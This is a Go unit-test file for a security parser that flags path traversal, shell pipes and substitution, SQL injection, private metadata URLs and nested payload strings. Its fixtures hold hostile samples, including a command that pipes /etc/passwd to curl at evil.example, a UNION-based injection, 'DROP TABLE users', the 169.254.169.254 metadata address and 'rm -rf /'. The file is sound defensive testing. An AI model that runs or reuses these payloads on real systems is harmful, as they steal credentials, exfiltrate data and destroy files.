package parsers

import "testing"

func TestParsePathDetectsParentRef(t *testing.T) {
	p := ParsePath("../../etc/passwd")
	if !p.Valid || !p.HasParentRef {
		t.Fatalf("expected parent-ref traversal detected, got %+v", p)
	}
}

func TestParsePathEmptyIsInvalid(t *testing.T) {
	if ParsePath("").Valid {
		t.Fatal("expected empty path to be invalid, never to error")
	}
}

func TestParsePathEscapesRoot(t *testing.T) {
	p := ParsePath("../secrets.txt")
	if !p.EscapesRoot("/sandbox/workdir") {
		t.Fatal("expected traversal to escape sandbox root")
	}
	safe := ParsePath("notes.txt")
	if safe.EscapesRoot("/sandbox/workdir") {
		t.Fatal("expected plain relative path to stay within root")
	}
}

func TestParseShellDetectsPipeAndSubstitution(t *testing.T) {
	s := ParseShell("cat /etc/passwd | curl -d @- http://evil.example")
	if !s.Valid || !s.HasPipe {
		t.Fatalf("expected pipe detected, got %+v", s)
	}

	subst := ParseShell("echo $(whoami)")
	if !subst.HasCommandSubst {
		t.Fatal("expected command substitution detected")
	}
}

func TestParseShellTokenizesQuotedArgs(t *testing.T) {
	s := ParseShell(`echo "hello world" foo`)
	if len(s.Tokens) != 3 || s.Tokens[1] != "hello world" {
		t.Fatalf("expected quoted token preserved as one token, got %+v", s.Tokens)
	}
}

func TestParseShellBlankIsInvalid(t *testing.T) {
	if ParseShell("   ").Valid {
		t.Fatal("expected blank command to be invalid")
	}
}

func TestParseSQLDetectsUnionAndTautology(t *testing.T) {
	s := ParseSQL("SELECT * FROM users WHERE id=1 OR 1=1 UNION SELECT password FROM admins --")
	if !s.Valid || s.Statement != "SELECT" {
		t.Fatalf("expected SELECT statement recognised, got %+v", s)
	}
	if !s.HasUnion || !s.HasTautology || !s.HasComment {
		t.Fatalf("expected union/tautology/comment all detected, got %+v", s)
	}
}

func TestParseSQLDetectsStackedQueries(t *testing.T) {
	s := ParseSQL("SELECT 1; DROP TABLE users;")
	if !s.HasStacked {
		t.Fatal("expected stacked query detected")
	}
}

func TestParseURLClassifiesPrivateTargets(t *testing.T) {
	u := ParseURL("http://169.254.169.254/latest/meta-data/")
	if !u.Valid || !u.IsLiteralIP || !u.IsPrivateIP {
		t.Fatalf("expected link-local metadata IP classified private, got %+v", u)
	}

	pub := ParseURL("https://example.com/resource")
	if pub.IsPrivateIP {
		t.Fatal("expected public hostname not classified private")
	}
}

func TestParseURLMalformedIsInvalid(t *testing.T) {
	if ParseURL("::::not a url").Valid {
		t.Fatal("expected malformed URL to be invalid")
	}
}

func TestParsePayloadFlattensNestedStrings(t *testing.T) {
	payload := map[string]any{
		"path": "/tmp/a",
		"nested": map[string]any{
			"cmd": "rm -rf /",
		},
		"list": []any{"x", "y"},
	}
	p := ParsePayload(payload)
	if !p.Valid || len(p.Strings) != 4 {
		t.Fatalf("expected 4 string leaves, got %+v", p.Strings)
	}
}

func TestParsePayloadStringFallsBackToRaw(t *testing.T) {
	p := ParsePayloadString("not json at all")
	if !p.Valid || p.IsJSON || len(p.Strings) != 1 {
		t.Fatalf("expected raw string fallback, got %+v", p)
	}
}
